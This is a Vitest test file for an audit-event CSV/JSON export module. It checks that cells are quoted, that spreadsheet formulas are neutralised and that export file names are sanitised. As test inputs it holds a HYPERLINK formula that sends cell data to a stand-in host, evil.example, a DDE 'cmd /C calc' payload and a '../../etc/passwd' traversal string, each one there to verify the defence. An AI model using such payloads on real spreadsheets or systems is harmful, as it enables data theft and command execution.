import { describe, expect, it } from 'vitest';
import type { AuditEvent } from '#core/schemas.ts';
import { auditEventsToCsv, auditEventsToJson, csvCell, exportFileName } from './audit-export.ts';

const event = (overrides: Partial<AuditEvent> = {}): AuditEvent => ({
  id: 'evt-1',
  at: '2025-11-20T10:00:00.000Z',
  actor: 'sam@example.com',
  type: 'rollback.requested',
  tenant: 'acme',
  environment: 'production',
  requestId: 'rbk-1',
  breakGlass: false,
  details: { mode: 'service' },
  ...overrides,
});

describe('csvCell', () => {
  it('quotes every cell and doubles quotes inside it', () => {
    expect(csvCell('plain')).toBe('"plain"');
    expect(csvCell('say "no"')).toBe('"say ""no"""');
    expect(csvCell('a,b\r\nc')).toBe('"a,b\r\nc"');
    expect(csvCell(undefined)).toBe('""');
    expect(csvCell(true)).toBe('"true"');
  });

  it('prefixes cells that a spreadsheet would run as a formula', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csvCell('+1+1')).toBe(`"'+1+1"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvCell('\t=1')).toBe(`"'\t=1"`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    // Only the start matters.
    expect(csvCell('a=1')).toBe('"a=1"');
  });
});

describe('auditEventsToCsv', () => {
  it('writes a header and one CRLF row per event, details as JSON, with a BOM', () => {
    const csv = auditEventsToCsv([
      event(),
      event({ id: 'evt-2', type: 'break-glass.opened', actor: '=cmd|" /C calc"!A0', tenant: undefined, environment: undefined, requestId: undefined, breakGlass: true, details: { justification: 'db "down", now', minutes: 30 } }),
    ]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const lines = csv.slice(1).split('\r\n');
    expect(lines).toEqual([
      '"id","at","type","actor","tenant","environment","requestId","breakGlass","justification","comment","targets","details"',
      '"evt-1","2025-11-20T10:00:00.000Z","rollback.requested","sam@example.com","acme","production","rbk-1","false","","","","{""mode"":""service""}"',
      `"evt-2","2025-11-20T10:00:00.000Z","break-glass.opened","'=cmd|"" /C calc""!A0","","","","true","db ""down"", now","","","{""justification"":""db \\""down\\"", now"",""minutes"":30}"`,
      '',
    ]);
  });

  it('lists the targets a closed break-glass session touched', () => {
    const [, row] = auditEventsToCsv([event({ type: 'break-glass.closed', tenant: undefined, environment: undefined, requestId: undefined, targets: ['acme/production', 'acme/staging'] })])
      .slice(1)
      .split('\r\n');
    expect(row).toContain('"acme/production acme/staging"');
  });

  it('gives the justification and a review comment their own columns, formula-safe', () => {
    const [, row] = auditEventsToCsv([event({ type: 'rollback.reviewed', details: { justification: '=SUM(A1)', comment: '+1 looks right', decision: 'approve' } })])
      .slice(1)
      .split('\r\n');
    expect(row).toContain(`"false","'=SUM(A1)","'+1 looks right","","{`);
  });
});

describe('auditEventsToJson', () => {
  it('is the events as the API sent them', () => {
    const events = [event(), event({ id: 'evt-2', details: { text: '\u202Ehidden' } })];
    expect(JSON.parse(auditEventsToJson(events))).toEqual(events);
  });
});

describe('exportFileName', () => {
  it('names the filters and the time with safe characters only', () => {
    const now = new Date('2025-11-20T10:05:00.123Z');
    expect(exportFileName({ tenant: 'acme', actor: 'dana@example.com' }, 'csv', now)).toBe('rewind-audit-acme-dana_example.com-20251120T100500Z.csv');
    expect(exportFileName({}, 'json', now)).toBe('rewind-audit-20251120T100500Z.json');
    expect(exportFileName({ actor: '../../etc/passwd' }, 'json', now)).toBe('rewind-audit-.._.._etc_passwd-20251120T100500Z.json');
  });
});
